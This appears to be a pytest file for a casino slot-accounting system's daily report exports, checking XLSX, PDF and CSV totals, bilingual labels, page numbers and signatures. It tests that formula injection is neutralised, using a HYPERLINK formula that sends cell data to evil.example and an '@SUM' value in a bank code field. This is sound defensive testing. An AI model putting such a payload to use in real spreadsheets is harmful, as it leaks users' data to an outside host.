"""The gaming-day exports read back: XLSX (openpyxl) and PDF (pypdfium2 text), with their totals, labels,
neutralised formulas and page numbers; CSV through slotsys.kernel.export."""

from __future__ import annotations

import io
import re
from dataclasses import replace
from datetime import timedelta, timezone

import pypdfium2 as pdfium
import pytest
from openpyxl import load_workbook

from slotsys.kernel import accounts as JA
from slotsys.accounting.adapters.export_pdf import to_pdf
from slotsys.accounting.adapters.export_xlsx import FIRST_DATA_ROW, HEADER_ROW_EN, HEADER_ROW_KO, to_xlsx
from slotsys.accounting.domain import chart as C
from slotsys.accounting.domain import drop as D
from slotsys.accounting.domain import liabilities as LI
from slotsys.accounting.domain import report as R
from slotsys.accounting.domain.day_close import MachineInfo, close_day, meters_vs_ledger
from tests.unit.accounting_floor import par, two_day_floor

UTC = timezone.utc
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def docs():
    f, d1, _ = two_day_floor()
    # a bank code typed as a formula: it must reach the workbook as text
    f.machines["M3"] = MachineInfo("M3", "@SUM(1+1)", "Z2")
    close = close_day(f.machines.values(), f.day_snapshots(d1), f.day_plays(d1), par)
    postings = f.day_postings(d1)
    journal = C.summarise(postings, entries=sum(1 for at, _ in f.entries if f.gd.day_of(at) == d1))
    start, end = f.gd.bounds(d1)
    m1 = close.machine("M1").figures.meters
    count = D.StackerCount("M1", "S-M1", d1, "kim", end, {50_000: 1},
                           (D.CountedTicket("100000000000000001", 23_400),))
    variances = D.count_variances(count, D.expectation("M1", d1, [m1], [D.CountedTicket("100000000000000001", 23_400)]))
    variances[0] = variances[0].accept(by="lee", role="supervisor", reason=HOSTILE, at=end)
    balances = C.normal_balances(postings)
    tickets = [LI.TicketRecord("T1", "cashable", 31_200, start + timedelta(hours=1))]
    liab = LI.liabilities_report(
        tickets=LI.ticket_liability(tickets, end, 31_200, f.gd),
        jackpots=LI.jackpot_liability([LI.LevelMeters("MINI", 1_000_500, 0, 0)],
                                      {JA.jackpot_liability("MINI"): 1_000, JA.jackpot_reserve("MINI"): 0, JA.jackpot_overflow("MINI"): 0,
                                       JA.jackpot_payable("MINI"): balances.get(JA.jackpot_payable("MINI"), 0) + 12_345}),
        wallets=LI.wallet_liability([LI.WalletRecord(9, "cashable", 40_000, 39_000)]),
        points=LI.points_liability([LI.PlayerPoints(9, 2_000, 2_000)], promo_won_per_point=10, cash_won_per_point=5))
    acc = D.shift_accountability([D.ShiftAccount("cage", "D1", "day", d1, 5_000_000, {"fills": 1_000_000},
                                                 {"tickets_redeemed": 2_000_000}, 3_999_000, counter="cashier1")])
    made = end + timedelta(minutes=5)
    day = R.day_report(f.gd, d1, close, journal, generated_at=made, ties=meters_vs_ledger(close, C.account_movements(postings)),
                       liabilities=liab, drop=D.variance_summary(variances), accountability=acc)
    jdoc = R.journal_document(f.gd, d1, journal, generated_at=made)
    return close, journal, day, jdoc


def _sheet(wb, key: str):
    return wb[R.SHEETS[key]]


def _table(ws):
    ko = [c.value for c in ws[HEADER_ROW_KO]]
    en = [c.value for c in ws[HEADER_ROW_EN]]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=FIRST_DATA_ROW)]
    return ko, en, rows


def test_xlsx_machines_sheet_labels_numbers_and_totals(docs):
    close, journal, day, _ = docs
    wb = load_workbook(io.BytesIO(to_xlsx(day)))
    assert wb.sheetnames[0] == "요약 Summary"
    ws = _sheet(wb, "machines")
    assert ws["B2"].value is None and ws["A2"].value.startswith("영업일 Gaming day: 2026-12-01 (2026-12-01 06:00:00 KST")
    ko, en, rows = _table(ws)
    assert ko[:4] == ["머신", "구역", "뱅크", "게임"] and en[:4] == ["Machine", "Zone", "Bank", "Game"]
    ci, h, t = en.index("Coin-in"), en.index("Actual hold"), en.index("Theoretical hold")
    assert ko[ci] == "코인 인"
    body, total = rows[:-1], rows[-1]
    assert [r[0] for r in body] == ["M1", "M2", "M3"] and total[0] == "합계 Total"
    for col in (ci, h, t, en.index("Bills in"), en.index("Tickets out"), en.index("Games played")):
        assert all(isinstance(r[col], int) for r in rows), en[col]
        assert total[col] == sum(r[col] for r in body), en[col]
    f = close.floor.figures
    assert (total[ci], total[h], total[t]) == (f.coin_in, f.hold, f.theo_won)
    assert isinstance(total[en.index("Hold %")], float)
    assert ws.cell(FIRST_DATA_ROW, ci + 1).number_format == "#,##0"
    assert ws.cell(FIRST_DATA_ROW, en.index("Hold %") + 1).number_format == "0.00%"
    assert total[en.index("Promotional in")] is None  # not metered: an empty cell, not 0


def test_xlsx_neutralises_formula_text_and_has_no_formula_cells(docs):
    _, _, day, _ = docs
    wb = load_workbook(io.BytesIO(to_xlsx(day)))
    m3 = next(r for r in _table(_sheet(wb, "machines"))[2] if r[0] == "M3")
    assert m3[2] == "'@SUM(1+1)"
    ko, en, rows = _table(_sheet(wb, "drop"))
    assert rows[0][en.index("Reason")] == "'" + HOSTILE
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)


def test_xlsx_journal_and_liabilities_sheets(docs):
    _, journal, day, jdoc = docs
    wb = load_workbook(io.BytesIO(to_xlsx(day)))
    ko, en, rows = _table(_sheet(wb, "journal"))
    gl = {r[0]: r for r in rows}
    assert gl["4110"][en.index("Credits")] == journal.row("4110").credits
    assert gl["합계 Total"][en.index("Debits")] == gl["합계 Total"][en.index("Credits")] == journal.debits
    assert sum(r[en.index("Debits")] for r in rows[:-1]) == journal.debits
    assert ko[en.index("Debits")] == "차변" and ko[en.index("Credits")] == "대변"
    ko, en, rows = _table(_sheet(wb, "liabilities"))
    diff = {r[en.index("Item")]: r[en.index("Difference")] for r in rows[:-1]}
    assert diff["player 9 cashable"] == 1_000 and diff["outstanding tickets"] == 0
    assert rows[-1][en.index("Difference")] == sum(v for v in diff.values())
    summary = {r[0].value: r[1].value for r in wb["요약 Summary"].iter_rows(min_row=5) if r[0].value}
    assert summary["부채 대사 Liabilities agree"].startswith("아니오 NO: ") and "player 9 cashable" in \
        summary["부채 대사 Liabilities agree"]
    jwb = load_workbook(io.BytesIO(to_xlsx(jdoc)))
    ko, en, rows = _table(_sheet(jwb, "chart"))
    assert len(rows) == len(C.CHART) and rows[0][:2] == ["1110", "cage:{cage}:drawer"]


def _pdf_pages(data: bytes) -> list[str]:
    pdf = pdfium.PdfDocument(data)
    try:
        return [pdf[i].get_textpage().get_text_range() for i in range(len(pdf))]
    finally:
        pdf.close()


def test_pdf_title_gaming_day_page_numbers_totals_and_signatures(docs):
    close, journal, day, _ = docs
    pages = _pdf_pages(to_pdf(day))
    n = len(pages)
    assert n >= 2
    for i, text in enumerate(pages, start=1):
        flat = " ".join(text.split())
        assert f"page {i} of {n}" in flat and f"쪽 {i} / {n}" in flat
        assert "Gaming day close report" in flat
        assert "2026-12-01 (2026-12-01 06:00:00 KST – 2026-12-02 06:00:00 KST)" in flat
        assert "Generated 2026-12-02 06:05:00 KST" in flat
    everything = " ".join(" ".join(p.split()) for p in pages)
    f = close.floor.figures
    assert "일일 영업 마감 보고서" in everything and "머신별" in everything  # Hangul is real text
    assert f"합계 Total 3 {f.coin_in:,} {f.meters['coin_out']:,} {f.hold:,}" in everything  # the zones' totals row
    assert f"{journal.debits:,} {journal.credits:,}" in everything
    last = " ".join(pages[-1].split())
    assert "Auditor" in last and "Second signatory" in last and "감사 담당" in last and "확인자" in last
    assert "Signature" in last and "Date and time" in last
    assert HOSTILE[:10] in everything  # the PDF shows the reason as typed (no formula risk in a PDF)


def test_pdf_page_count_grows_with_the_machines(docs):
    close, journal, day, _ = docs
    machines = day.section("machines")
    many = replace(day, sections=[replace(machines, rows=machines.rows * 60)])
    pages = _pdf_pages(to_pdf(many))
    n = len(pages)
    assert n >= 4
    assert all(f"page {i} of {n}" in " ".join(t.split()) for i, t in enumerate(pages, start=1))
    # the column labels repeat on every page the table continues on
    assert all("Coin-in" in t for t in pages[:-1])
    assert "Second signatory" in pages[-1]


def test_journal_pdf_and_csv(docs):
    _, journal, _, jdoc = docs
    pages = _pdf_pages(to_pdf(jdoc))
    flat = " ".join(" ".join(p.split()) for p in pages)
    assert "Daily journal summary" in flat and "Chart of accounts" in flat and "page 1 of" in flat
    assert "machine:{asset}:credits" in flat
    files = R.csv_files(jdoc)
    name = "journal-2026-12-01-journal.csv"
    text = files[name]
    assert text.startswith("\ufeff")
    lines = text[1:].split("\r\n")
    assert lines[0].startswith("계정 번호 / GL account,")
    assert re.search(rf"^합계 Total,,,,,{journal.debits},{journal.credits},0,", lines[-2])


def test_csv_of_the_day_report_neutralises_formulas(docs):
    _, _, day, _ = docs
    files = R.csv_files(day)
    assert "day_report-2026-12-01-machines.csv" in files
    drop_csv = files["day_report-2026-12-01-drop.csv"]
    assert "'=HYPERLINK" in drop_csv and ",=HYPERLINK" not in drop_csv
    assert "'@SUM(1+1)" in files["day_report-2026-12-01-machines.csv"]

